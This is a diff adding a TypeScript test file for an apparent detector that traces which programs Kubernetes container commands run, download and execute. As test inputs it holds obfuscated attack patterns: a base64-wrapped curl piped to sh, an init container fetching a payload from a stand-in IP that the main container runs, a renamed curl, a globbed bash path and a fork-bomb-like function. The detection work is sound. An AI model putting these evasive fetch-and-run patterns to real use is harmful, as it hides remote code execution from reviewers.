@@ -1,0 +1,76 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { Effect } from '../model/effect.ts';
+import type { CommandFact } from '../model/facts.ts';
+import { type CommandInput, effectsOf } from './effects.ts';
+
+const commandOf = (argv: readonly string[], parts: Partial<CommandFact> = {}): CommandFact => ({
+  container: 'main',
+  role: 'container',
+  pointer: `/${parts.container ?? 'main'}`,
+  carrier: 'command',
+  argv,
+  entrypoint: null,
+  shown: argv.join(' '),
+  script: null,
+  ...parts,
+});
+const effects = (commands: readonly CommandFact[], more: Partial<CommandInput> = {}): readonly Effect[] =>
+  effectsOf({ commands, hostPaths: [], environment: [], mounts: [], ...more });
+const programs = (command: CommandFact, more: Partial<CommandInput> = {}): readonly string[] =>
+  effects([command], more).flatMap((effect) => (effect.kind === 'run' ? [effect.program] : []));
+const text = (shell: string): CommandFact => commandOf(['sh', '-c', shell], { script: shell });
+
+const PROGRAMS: Record<string, [command: CommandFact, wanted: readonly string[]]> = {
+  'an argv without a shell': [commandOf(['date', '-u']), ['date']],
+  'shell text': [text('a; b'), ['sh', 'a', 'b']],
+  'a shell in a shell': [text(`bash -c 'a | b'`), ['sh', 'bash', 'a', 'b']],
+  'an entrypoint and its arguments': [commandOf(['-x'], { entrypoint: 'tool' }), ['-x', 'tool']],
+  'a script field for a shell': [commandOf([], { script: '#!/bin/sh\na' }), ['a']],
+  'a command handed to another pod': [text('kubectl exec web-0 -- a -x'), ['sh', 'kubectl', 'a']],
+  'a pattern that names a shell': [text('/???/b??h -c a'), ['sh', 'bash', 'a']],
+  'a function and its argument': [text('f() { $1; }; f a'), ['sh', 'a']],
+  'a renamed program': [text('cp /usr/bin/curl /tmp/c; /tmp/c x'), ['sh', 'cp', 'c', 'curl']],
+};
+for (const [name, [command, wanted]] of Object.entries(PROGRAMS)) {
+  test(`programs of ${name}`, () => assert.deepEqual(programs(command), wanted));
+}
+
+test('layers are told outermost first', () => {
+  const inner = btoa(btoa('curl x'));
+  const found = effects([text(`echo ${inner} | base64 -d | base64 -d | sh`)]).find(({ kind }) => kind === 'download');
+  assert.deepEqual(found?.layers, ['base64', 'base64']);
+  assert.equal(found?.shown, 'curl x');
+});
+
+test('a download of an init container that the main one runs from a shared volume', () => {
+  const mounts = ['first', 'main'].map((container) => ({ container, volume: 'work', mountPath: `/${container}` }));
+  const commands = [
+    text('sh /main/run'),
+    commandOf(['curl', '-o', '/first/run', 'http://203.0.113.7/x'], { container: 'first', role: 'init' }),
+  ];
+  const ran = (input: Partial<CommandInput>) => effects(commands, input).some(({ kind }) => kind === 'execute');
+  assert.ok(ran({ mounts }));
+  assert.ok(!ran({ mounts: mounts.map((mount) => ({ ...mount, volume: mount.container })) }));
+});
+
+test('what the log does not hold is said', () => {
+  const note = (more: Partial<CommandInput>) =>
+    effects([text('eval "$X"')], more).flatMap((effect) => (effect.kind === 'unresolved' ? [effect.note] : []));
+  assert.deepEqual(note({}), ['runs the value of $X, which the log does not hold']);
+  assert.deepEqual(note({ environment: [{ container: 'main', name: 'X', value: 'date' }] }), []);
+});
+
+test('variables of Kubernetes are put in, and doubled signs keep them out', () => {
+  const environment = [{ container: 'main', name: 'X', value: 'a' }];
+  assert.deepEqual(programs(commandOf(['$(X)']), { environment }), ['a']);
+  assert.deepEqual(programs(commandOf(['$$(X)']), { environment }), ['$(X)']);
+});
+
+for (const piece of ['x() ', '$(', 'eval "', 'f(){ f;f; };f;', '<<a ', 'A=$A$A;', 'for i in a b c d e;do ', '{a,b}']) {
+  test(`ends, and says what it left out: ${JSON.stringify(piece)}`, () => {
+    const found = effects([text(piece.repeat(100_000))]);
+    assert.ok(found.length > 0 && found.length <= 10_000);
+    assert.ok(found.some((effect) => effect.kind === 'unresolved' && effect.because === 'limit'));
+  });
+}
